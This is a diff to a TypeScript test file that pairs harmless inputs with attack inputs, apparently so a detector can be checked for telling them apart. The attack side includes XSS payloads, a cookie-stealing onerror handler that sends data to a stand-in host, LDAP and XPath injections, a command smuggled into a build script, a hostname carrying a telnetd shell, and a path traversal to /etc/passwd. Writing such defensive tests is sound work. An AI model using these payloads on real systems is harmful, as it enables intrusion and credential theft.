@@ -69,6 +69,41 @@ const pairs: readonly (readonly [string, Request, Request])[] = [
     named('host', 'ntp.example`telnetd -l /bin/sh`'),
   ],
   ['a secret is asked for where no text stands', named('q', '.htaccess rewrite'), named('item', '.htaccess')],
+  [
+    'who reports shows what the page had',
+    document({ exception: { stacktrace: { frames: [{ context_line: "document.cookie = 'a=' + b;" }] } } }),
+    document({ exception: { stacktrace: { frames: [{ context_line: '<img src=x onerror=alert(1)>' }] } } }),
+  ],
+  [
+    'a script that no parser takes runs nothing',
+    search('users type <script> in the box, what to do (strip it)?'),
+    search('users type <script>alert(1)//in the box'),
+  ],
+  [
+    'a finished filter ends no other one',
+    document({ filter: '(&(objectClass=user)(cn=ann))' }),
+    document({ filter: 'ann)(|(cn=*' }),
+  ],
+  [
+    'what a package runs is a command',
+    document({ scripts: { build: 'tsc -p . && node dist/index.js' } }),
+    document({ build: 'x && node -e id' }),
+  ],
+  [
+    'a path of a page opens its own strings',
+    document({ text: "//div[@class='price']/text()" }),
+    document({ text: "x'] | //user/text() | //a['" }),
+  ],
+  [
+    'a picture that is missing changes itself',
+    document({ text: '<img src="/a.png" onerror="this.onerror=null;this.src=\'/none.png\'">' }),
+    document({ text: '<img src="/a.png" onerror="this.src=\'//evil.example/\'+document.cookie">' }),
+  ],
+  [
+    'a line of a log stands between its words',
+    document({ line: '203.0.113.9 GET /../../etc/passwd 404 12 ms' }),
+    document({ line: '../../etc/passwd' }),
+  ],
 ];
 
 for (const [says, mention, attack] of pairs)
